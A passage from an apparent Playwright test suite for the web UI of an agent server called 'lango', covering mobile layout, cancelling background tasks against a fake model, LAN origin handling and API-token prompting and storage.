          await page.getByText('No background process is running.').waitFor()
          expect(await page.locator('#announcer').textContent()).toContain('Stopped')
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('shows the overview, and fits a phone screen', async () => {
        const { context, page, errors } = await openPage({ width: 390, height: 844 })
        try {
          await page.goto(`${server.url}/ui`)
          await page.getByRole('heading', { name: 'Overview' }).waitFor()
          const text = await page.locator('main').textContent()
          expect(text).toContain(server.app.instances.id)
          expect(text).toContain('sqlite')
          expect(text).toContain('failing cron jobs')
          expect(text).toContain('pending approvals')
          expect(text).toContain('running workflows')
          expect(text).toContain('running background tasks')
          expect(text).toContain('running processes')
          expect(await page.locator('nav a[aria-current="page"]').textContent()).toBe('Overview')
          await screenshot(page, 'overview-phone')
          const fits = () =>
            page.evaluate<boolean>('document.documentElement.scrollWidth <= window.innerWidth')
          expect(await fits()).toBe(true)
          // The sections are links the keyboard follows.
          await page.getByRole('link', { name: 'Cron', exact: true }).focus()
          await page.keyboard.press('Enter')
          await page.getByRole('heading', { name: 'Cron' }).waitFor()
          await screenshot(page, 'cron-phone')
          expect(await fits()).toBe(true)
          // The job form too: its widest select no longer widens every row past the screen.
          await page.goto(`${server.url}/ui#/cron/new`)
          await page.locator('.job-form').waitFor()
          expect(await fits()).toBe(true)
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })
    })

    describe('with a model', () => {
      let model: FakeOpenAI
      let server: TestServer
      beforeAll(async () => {
        model = await startFakeOpenAI()
        server = await startTestServer(
          (config) => ({ ...config, agent: { ...config.agent, maxRetries: 0 } }),
          { LANGO_MODEL_BASE_URL: model.baseUrl, LANGO_MODEL: 'test-model' },
        )
      })
      afterAll(async () => {
        await server?.dispose()
        await model?.close()
      })

      it('shows the result of a background task, and cancels a running one from the page', async () => {
        model.scriptWhen(
          (body) => JSON.stringify(body.messages).includes('count the files'),
          reply.text('42 files'),
        )
        model.scriptWhen((body) => JSON.stringify(body.messages).includes('think forever'), reply.hang())
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/background`)
          await page.getByText('No background tasks.').waitFor()
          await page.getByText('Live updates: on').waitFor()
          const done = await json(
            await server.request('/api/background/tasks', { json: { prompt: 'count the files' } }),
          )
          const doneRow = page.locator(`tr[data-task="${done.task_id}"]`)
          await doneRow.locator('.status [data-status="done"]').waitFor()
          await doneRow.getByText('Result').click()
          expect(await doneRow.locator('.result pre').textContent()).toContain('42 files')

          const long = await json(
            await server.request('/api/background/tasks', { json: { prompt: 'think forever' } }),
          )
          const longRow = page.locator(`tr[data-task="${long.task_id}"]`)
          await longRow.locator('.status [data-status="running"]').waitFor()
          // Live re-renders keep an opened result open.
          expect(await doneRow.locator('details').getAttribute('open')).not.toBeNull()
          await screenshot(page, 'background-running')
          await longRow.getByRole('button', { name: `Cancel task ${long.task_id.slice(0, 8)}` }).click()
          await longRow.locator('.status [data-status="cancelled"]').waitFor()
          const view = await json(await server.request(`/api/background/tasks/${long.task_id}`))
          expect(view.status).toBe('cancelled')
          expect(await longRow.getByRole('button', { name: /^Cancel/ }).count()).toBe(0)
          expect(await page.locator('#announcer').textContent()).toContain('Cancelled task')
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })
    })

    describe('on a LAN address', () => {
      let server: TestServer
      let lanBrowser: Browser
      beforeAll(async () => {
        server = await startTestServer((config) => ({
          ...config,
          server: { ...config.server, host: '0.0.0.0', apiToken: TOKEN, allowedHosts: ['lango-box.test'] },
        }))
        lanBrowser = await launchBrowser({ hosts: { 'lango-box.test': '127.0.0.1' } })
      })
      afterAll(async () => {
        await lanBrowser?.close()
        await server?.dispose()
      })

      it('works when reached by a name other than loopback: its own origin may act', async () => {
        const job = await createShellJob(
          server,
          { name: 'ui-lan', schedule_type: 'every', schedule: '1h', command: 'echo lan' },
          { authorization: `Bearer ${TOKEN}` },
        )
        const context = await lanBrowser.newContext({ viewport: { width: 1280, height: 900 } })
        context.setDefaultTimeout(10_000)
        const page = await context.newPage()
        const errors: string[] = []
        page.on('pageerror', (error) => errors.push(error.message))
        try {
          const origin = `http://lango-box.test:${new URL(server.url).port}`
          await page.goto(`${origin}/ui#/cron`)
          await page.getByLabel('API token').fill(TOKEN)
          await page.getByRole('button', { name: 'Continue' }).click()
          await page.locator('tr[data-job="ui-lan"]').waitFor()
          // A POST carries Origin http://lango-box.test:<port>: this server's own, so it passes.
          const answer = page.waitForResponse((response) => response.url().endsWith('/pause'))
          await page.getByRole('button', { name: 'Pause ui-lan' }).click()
          expect((await answer).status()).toBe(200)
          expect((await (await answer).request().allHeaders()).origin).toBe(origin)
          await page.getByRole('button', { name: 'Resume ui-lan' }).waitFor()
          const view = await server.request(`/api/cron/jobs/${job.id}`, {
            headers: { authorization: `Bearer ${TOKEN}` },
          })
          expect((await json(view)).job.enabled).toBe(false)
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })
    })

    describe('with a token required', () => {
      let server: TestServer
      beforeAll(async () => {
        server = await startTestServer((config) => ({
          ...config,
          server: { ...config.server, apiToken: TOKEN },
        }))
      })
      afterAll(async () => {
        await server?.dispose()
      })

      it('asks for the token before it calls the API, then sends it on every call', async () => {
        await createShellJob(
          server,
          { name: 'ui-guarded', schedule_type: 'every', schedule: '2h', command: 'echo guarded' },
          { authorization: `Bearer ${TOKEN}` },
        )
        const { context, page, errors } = await openPage()
        const apiRequests: Request[] = []
        page.on('request', (request) => {
          if (new URL(request.url()).pathname.startsWith('/api/')) apiRequests.push(request)
        })
        try {
          await page.goto(`${server.url}/ui#/cron`)
          const input = page.getByLabel('API token')
          await input.waitFor()
          await page.waitForLoadState('networkidle')
          expect(apiRequests).toEqual([])
          await screenshot(page, 'token-prompt')

          await input.fill('not-the-token')
          await page.getByRole('button', { name: 'Continue' }).click()
          await page.getByText('The server refused this token.').waitFor()
          expect(await page.evaluate<string | null>("sessionStorage.getItem('lango.apiToken')")).toBeNull()

          const before = apiRequests.length
          await page.getByLabel('API token').fill(TOKEN)
          await page.getByRole('button', { name: 'Continue' }).click()
          await page.locator('tr[data-job="ui-guarded"]').waitFor()
          await page.getByText('Live updates: on').waitFor()
          const sent = apiRequests.slice(before)
          expect(sent.map((request) => new URL(request.url()).pathname)).toEqual(
            expect.arrayContaining(['/api/cron/jobs', '/api/events']),
          )
          for (const request of sent)
            expect((await request.allHeaders()).authorization).toBe(`Bearer ${TOKEN}`)
          expect(await page.evaluate<string | null>("sessionStorage.getItem('lango.apiToken')")).toBe(TOKEN)
          expect(await page.evaluate<number>('localStorage.length')).toBe(0)

          // Kept for the session: a reload asks nothing.
          await page.reload()
          await page.locator('tr[data-job="ui-guarded"]').waitFor()
          await page.getByRole('button', { name: 'Forget token' }).click()
          await page.getByLabel('API token').waitFor()
          expect(await page.evaluate<string | null>("sessionStorage.getItem('lango.apiToken')")).toBeNull()
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })
    })
  },
)
